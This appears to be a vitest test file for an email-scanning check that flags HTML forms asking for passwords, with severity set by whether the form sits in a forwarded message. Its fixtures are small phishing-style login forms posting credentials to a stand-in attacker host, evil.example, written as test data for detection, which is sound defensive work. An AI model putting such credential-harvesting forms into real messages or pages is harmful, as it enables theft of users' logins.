import { describe, expect, test } from 'vitest';
import { form as check } from '../../../src/checks/body/form.ts';
import { aMail } from '../a-mail.ts';
import { examine } from '../facts-of.ts';

describe('finds', () => {
  test('a form that asks for a password', async () => {
    const open = '<form action="https://evil.example/take">';
    const html = `<p>Log in:</p>${open}<input name="u"><input type="password" name="p"></form>`;
    const said = await examine(check, aMail({ html }));
    expect(said.says).toEqual(['high check_body_form_password']);
    expect(said.proof[0]).toMatch(/^form: <form action="https:\/\/evil\.example\/take">/);
  });

  test('one in a message that somebody passed on, a step lower', async () => {
    const inner = aMail({ html: '<form action="https://evil.example/"><input type="password"></form>' });
    const body = `--b\r\nContent-Type: text/html\r\n\r\n<p>Is this real?</p>\r\n--b\r\nContent-Type: message/rfc822\r\n\r\n${inner}\r\n--b--\r\n`;
    const mail = aMail({ text: body }).replace('text/plain; charset=utf-8', 'multipart/mixed; boundary=b');
    expect((await examine(check, mail)).says).toEqual(['medium check_body_form_password']);
  });

  test('a search box in a newsletter, as a remark', async () => {
    const html = '<form action="https://shop.example/find"><input name="q"></form>';
    expect((await examine(check, aMail({ html }))).says).toEqual(['note check_body_form']);
  });
});

describe('is clear', () => {
  test.each([
    ['no form', '<p>Good morning.</p>'],
    ['a form around nothing to fill in', '<form action="https://shop.example/"><p>Good morning.</p></form>'],
  ])('%s', async (_, html) => {
    expect((await examine(check, aMail({ html }))).kind).toBe('clear');
  });
});

test('not applicable: plain text', async () => {
  expect(await examine(check, aMail())).toMatchObject({ kind: 'notApplicable', says: ['because_no_html'] });
});
